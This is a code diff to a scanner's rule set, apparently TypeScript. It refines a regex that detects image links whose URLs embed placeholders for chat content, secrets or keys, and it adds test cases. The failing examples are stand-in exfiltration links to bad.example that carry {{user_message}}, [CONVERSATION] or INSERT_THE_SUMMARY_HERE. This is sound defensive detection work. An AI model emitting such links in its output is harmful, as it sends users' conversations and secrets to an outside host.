@@ -48,7 +48,7 @@ const LINK_TITLE = /\]\([^()\s]{1,300} +"([^"\n]{8,400})"\)/g;
 
 const CHAT_PLACE =
   '(?:chat|conversation|messages?|history|context|prompt|answer|question|summary|secrets?|user_?(?:message|input|data|query|prompt|question|name|email)s?|user|system_?(?:prompt|message)?|session|response|reply|memory|api_?keys?|passwords?|e?mail|data|content|transcript|notes?|tokens?|last_message|input|output|text|document|result|env|credentials?|instructions?|everything|leak|info|all|thoughts?|payload|base64|encoded|[a-z_ -]{0,24}(?:chat|conversation|prompt|history|secret|password|user|summary|message|answer|question|context|key|data|encoded|here)[a-z_ -]{0,24})';
-const PLACEHOLDER = `(?:\\{\\{? ?${CHAT_PLACE} ?\\}?\\}|\\$\\{? ?${CHAT_PLACE} ?\\}?|<${CHAT_PLACE}>|&lt;${CHAT_PLACE}&gt;|\\[${CHAT_PLACE}\\]|%7b${CHAT_PLACE}%7d|%3c${CHAT_PLACE}%3e|__?${CHAT_PLACE}__?(?=[)"'\\s&]|$)|\\(${CHAT_PLACE}\\)|(?:INSERT|YOUR|THE|ADD|PUT)[_+-][A-Z_+-]{3,40}|\\*${CHAT_PLACE}\\*)`;
+const PLACEHOLDER = `(?:\\{\\{? ?${CHAT_PLACE} ?\\}?\\}|\\$\\{? ?${CHAT_PLACE} ?\\}?|<${CHAT_PLACE}>|&lt;${CHAT_PLACE}&gt;|\\[${CHAT_PLACE}\\]|%7b${CHAT_PLACE}%7d|%3c${CHAT_PLACE}%3e|__?${CHAT_PLACE}__?(?=[)"'\\s&]|$)|\\(${CHAT_PLACE}\\)|(?<![.-])(?:INSERT|YOUR|THE|ADD|PUT)[_+-](?:(?:THE|YOUR)[_+-])?${CHAT_PLACE}|\\*${CHAT_PLACE}\\*)`;
 const ADDRESS = /\/\/[^\s)"'>]{3,400}(?:>(?=[)"'\s&]|$))?/g;
 const ANY_PLACEHOLDER = /[/?=&#.,:;-](?:[{<[$(*]|__|%7b|%3c|&lt;|(?:INSERT|YOUR|THE|ADD|PUT)[_+-])/i;
 const IN_IMAGE =
@@ -223,9 +223,11 @@ export const MARKUP_RULES: readonly TextRule[] = [
       '<img src="http://bad.example/p.gif?d={{user_message}}">',
       '![](https://bad.example/[CONVERSATION])',
       '![s](https://bad.example/x?s=<summary>)',
+      '![s](https://bad.example/x?s=INSERT_THE_SUMMARY_HERE)',
     ],
     passes: [
       '![plan](./plan.svg)',
+      '<img src="https://img.example.com/npm/v/lib?style=for-the-badge">',
       '[![ci](https://ci.example.com/b.svg?branch=main)](https://ci.example.com)',
       '![bars](https://chart.example.com/?d=1,2,3)',
       '![v](https://img.example.com/badge/{version}.svg)',
